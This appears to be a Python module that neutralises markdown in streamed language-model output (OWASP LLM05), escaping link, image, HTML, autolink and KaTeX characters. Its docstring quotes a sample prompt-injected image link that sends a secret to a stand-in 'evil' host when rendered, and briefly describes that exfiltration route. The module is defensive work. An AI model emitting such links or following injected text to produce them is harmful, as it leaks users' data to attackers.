"""Safe rendering of model output (OWASP LLM05: improper output handling).

Model text is shown as markdown, but nothing in it may make the browser fetch or open anything:
no raw HTML, no images, no links (a prompt-injected ``![x](https://evil/?q=secret)`` would leak
data the moment it renders). :class:`MarkdownNeutralizer` escapes, character by character, every
markdown character that can start such a construct:

- ``[`` and ``]`` (inline/reference links, images, link reference definitions), so ``![a](u)``
  and ``[a](u)`` render as their literal text;
- ``<`` (raw HTML and ``<https://...>`` autolinks);
- ``/`` and ``@`` and the dot of ``www.`` (GFM bare-URL and e-mail autolinks), so a URL shows as
  plain text;
- ``$`` (KaTeX, whose ``\\href``/``\\url`` produce links).

Inside a fenced code block (a line opening with three backticks or tildes) nothing is escaped:
markdown does not interpret it there, and code stays readable.

The escaping of each character depends only on the characters before it, so feeding the text
in any split (the token stream of :func:`st.write_stream`) gives exactly the output of
neutralizing the whole text at once: no partial state of the stream is ever unsafe.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

_ALWAYS_ESCAPE = frozenset("[]<$@/\\")
_FENCES = ("```", "~~~")


class MarkdownNeutralizer:
    """Incremental escaper: ``feed(delta) -> safe delta``."""

    def __init__(self) -> None:
        self._line = ""  # raw text of the current line so far
        self._in_fence = False
        self._fence = ""
        self._tail = ""  # last raw characters (for "www.")

    def feed(self, text: str) -> str:
        out: list[str] = []
        for ch in text:
            out.append(self._char(ch))
            if ch == "\n":
                self._end_line()
            else:
                self._line += ch
            self._tail = (self._tail + ch)[-3:]
        return "".join(out)

    def _char(self, ch: str) -> str:
        if self._in_fence:
            return ch
        if ch in _ALWAYS_ESCAPE:
            return "\\" + ch
        if ch == "." and self._tail.lower() == "www":
            return "\\."
        return ch

    def _end_line(self) -> None:
        stripped = self._line.lstrip(" ")
        indent = len(self._line) - len(stripped)
        if indent <= 3:
            if self._in_fence:
                if stripped.startswith(self._fence) and not stripped.strip(self._fence[0]).strip():
                    self._in_fence = False
            else:
                for fence in _FENCES:
                    if stripped.startswith(fence):
                        self._in_fence = True
                        self._fence = fence
                        break
        self._line = ""


def neutralize(text: str) -> str:
    """Markdown of ``text`` with HTML, images, links and autolinks made inert."""
    return MarkdownNeutralizer().feed(text)


def neutralize_stream(chunks: Iterable[str]) -> Iterator[str]:
    """Escape a token stream on the fly (same result as :func:`neutralize` of the whole)."""
    escaper = MarkdownNeutralizer()
    for chunk in chunks:
        safe = escaper.feed(chunk)
        if safe:
            yield safe
